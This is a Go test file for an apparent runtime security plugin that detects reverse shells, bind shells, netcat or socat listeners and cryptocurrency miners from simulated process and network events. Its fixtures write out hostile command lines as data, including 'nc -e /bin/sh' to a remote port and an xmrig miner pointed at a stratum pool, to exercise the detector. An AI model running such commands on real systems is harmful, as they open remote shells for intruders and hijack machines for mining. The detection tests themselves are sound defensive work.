package outbound_test

import (
	"context"
	"strings"
	"testing"

	"github.com/bulkhead-sec/bulkhead/plugins/outbound"
	"github.com/bulkhead-sec/bulkhead/plugins/sdk"
	"github.com/bulkhead-sec/bulkhead/plugins/sdk/sdktest"
	"go.uber.org/zap/zaptest"
)

func run(t *testing.T, config string, evs ...*sdk.Event) []string {
	t.Helper()
	for i, ev := range evs {
		ev.KernelTimeNs = uint64(i+1) * 1e9 // a second apart
	}
	return sdktest.Rules(sdktest.Run(t, outbound.New(), config, evs...))
}

var (
	web     = sdktest.Proc{PID: 10, Exe: "/usr/bin/bash", Ancestors: []string{"/usr/sbin/nginx"}}
	py      = web.Child(20, "/usr/bin/python3.11", "python3", "-c", "...")
	nc      = web.Child(30, "/usr/bin/nc.openbsd", "nc", "-e", "/bin/sh", "10.0.0.9", "4444")
	sshd    = sdktest.Proc{PID: 40, Exe: "/usr/sbin/sshd"}
	bashI   = func(p sdktest.Proc) *sdk.Event { return p.Child(p.PID+1, "/bin/bash", "bash", "-i").Exec() }
	samePID = func(p sdktest.Proc, argv ...string) *sdk.Event {
		q := p
		q.Exe, q.Args = "/usr/bin/bash", argv
		return q.Exec()
	}
)

func TestReverseShell(t *testing.T) {
	for _, c := range []struct {
		name, config string
		evs          []*sdk.Event
		want         string
	}{
		{"python connects, child runs sh -i", "", []*sdk.Event{py.Connect("203.0.113.5", 9001, 0), bashI(py)}, "reverse-shell"},
		{"bash /dev/tcp then exec bash -i", "", []*sdk.Event{web.Connect("203.0.113.5", 443, -115), samePID(web, "bash", "-i")}, "reverse-shell"},
		{"nc -e /bin/sh", "", []*sdk.Event{nc.Connect("203.0.113.5", 8080, 0), nc.Child(31, "/bin/sh", "/bin/sh").Exec()}, "reverse-shell"},
		{"sh -c is not interactive", "", []*sdk.Event{py.Connect("203.0.113.5", 443, 0), py.Child(21, "/bin/sh", "sh", "-c", "make").Exec()}, ""},
		{"sh script is not interactive", "", []*sdk.Event{py.Connect("203.0.113.5", 443, 0), py.Child(21, "/bin/sh", "sh", "-e", "configure").Exec()}, ""},
		{"a refused connection", "", []*sdk.Event{py.Connect("203.0.113.5", 443, -111), bashI(py)}, ""},
		{"loopback is ignored", "", []*sdk.Event{py.Connect("127.0.0.1", 9001, 0), bashI(py)}, ""},
		{"loopback when asked", `{"include_loopback": true}`, []*sdk.Event{py.Connect("127.0.0.1", 9001, 0), bashI(py)}, "reverse-shell"},
		{"sshd is not a connector", "", []*sdk.Event{sshd.Connect("203.0.113.5", 389, 0), sshd.Child(41, "/bin/bash", "-bash").Exec()}, ""},
		{"outside the window", `{"window": "500ms"}`, []*sdk.Event{py.Connect("203.0.113.5", 9001, 0), bashI(py)}, ""},
		{"the connector exited", "", []*sdk.Event{py.Connect("203.0.113.5", 9001, 0), py.Exit(), bashI(py)}, ""},
		{"allowlisted", `{"allow": [{"ancestor": "python3.11"}]}`, []*sdk.Event{py.Connect("203.0.113.5", 9001, 0), bashI(py)}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			got := strings.Join(run(t, c.config, c.evs...), ",")
			if got != c.want {
				t.Fatalf("got %q, want %q", got, c.want)
			}
		})
	}
}

func TestMining(t *testing.T) {
	xmrig := web.Child(50, "/tmp/xmrig", "xmrig", "-o", "stratum+tcp://pool.example:3333", "-u", "wallet")
	if got := run(t, "", xmrig.Exec(), xmrig.Connect("198.51.100.7", 3333, -115)); strings.Join(got, ",") != "miner-argv,mining-pool-port" {
		t.Fatalf("got %v", got)
	}
	curl := web.Child(60, "/usr/bin/curl", "curl", "https://example.org")
	if got := run(t, "", curl.Exec(), curl.Connect("198.51.100.7", 443, 0), curl.Connect("127.0.0.1", 3333, 0)); len(got) != 0 {
		t.Fatalf("got %v", got)
	}
	if got := run(t, `{"pool_ports": [443]}`, curl.Connect("198.51.100.7", 443, 0)); len(got) != 1 {
		t.Fatalf("pool_ports: %v", got)
	}
}

func TestBadConfig(t *testing.T) {
	for _, bad := range []string{`{"window": "soon"}`, `{"window": "-1s"}`, `{"max_processes": 0}`, `{"shells": ["bin/sh"]}`, `{"pool_port": [1]}`} {
		if err := outbound.New().Init(context.Background(), sdk.Config(bad), zaptest.NewLogger(t)); err == nil {
			t.Errorf("%s: want an error", bad)
		}
	}
}

func TestOverTheWire(t *testing.T) {
	h, err := sdktest.Start(t, outbound.New(), "")
	if err != nil {
		t.Fatal(err)
	}
	c := py.Connect("203.0.113.5", 9001, 0)
	sh := bashI(py)
	c.KernelTimeNs, sh.KernelTimeNs = 1e9, 3e9
	fs, err := h.Send(c, sh)
	if err != nil || len(fs) != 1 || fs[0].Fields["addr"] != "203.0.113.5" || fs[0].Fields["seconds_after_connect"] != 2.0 {
		t.Fatalf("%+v %v", fs, err)
	}
}

// Bind shells (a connector accepts, then an interactive shell starts) and
// netcat listeners.
func TestBindShellAndListeners(t *testing.T) {
	ncl := web.Child(50, "/usr/bin/nc.openbsd", "nc", "-lvp", "4444")
	socat := web.Child(51, "/usr/bin/socat", "socat", "TCP-LISTEN:8080", "STDOUT")
	for _, c := range []struct {
		name, config string
		evs          []*sdk.Event
		want         string
	}{
		{"python accepts, child runs sh -i", "", []*sdk.Event{py.Bind("bind", "0.0.0.0", 4445, 0), py.Bind("listen", "0.0.0.0", 4445, 0),
			py.Accept("10.0.0.1", 4445, "203.0.113.5", 50000, 4), bashI(py)}, "bind-shell"},
		{"accept from loopback is ignored", "", []*sdk.Event{py.Accept("127.0.0.1", 4445, "127.0.0.1", 50000, 4), bashI(py)}, ""},
		{"a refused accept", "", []*sdk.Event{py.Accept("10.0.0.1", 4445, "203.0.113.5", 50000, -11), bashI(py)}, ""},
		{"a server accepts and runs sh -c", "", []*sdk.Event{py.Accept("10.0.0.1", 80, "203.0.113.5", 50000, 4),
			py.Child(21, "/bin/sh", "sh", "-c", "ls").Exec()}, ""},
		{"nc -l", "", []*sdk.Event{ncl.Bind("listen", "0.0.0.0", 4444, 0)}, "netcat-listener"},
		{"socat TCP-LISTEN on v6", "", []*sdk.Event{socat.Bind("listen", "::", 8080, 0)}, "netcat-listener"},
		{"nc -l on loopback", "", []*sdk.Event{ncl.Bind("listen", "127.0.0.1", 4444, 0)}, ""},
		{"python listens (a dev server)", "", []*sdk.Event{py.Bind("listen", "0.0.0.0", 8000, 0)}, ""},
		{"nc allowlisted", `{"allow": [{"exe": "nc.openbsd"}]}`, []*sdk.Event{ncl.Bind("listen", "0.0.0.0", 4444, 0)}, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			for i, ev := range c.evs {
				ev.KernelTimeNs = uint64(i+1) * 1e9
			}
			got := strings.Join(sdktest.Rules(sdktest.Run(t, outbound.New(), c.config, c.evs...)), ",")
			if got != c.want {
				t.Fatalf("got %q, want %q", got, c.want)
			}
		})
	}
}
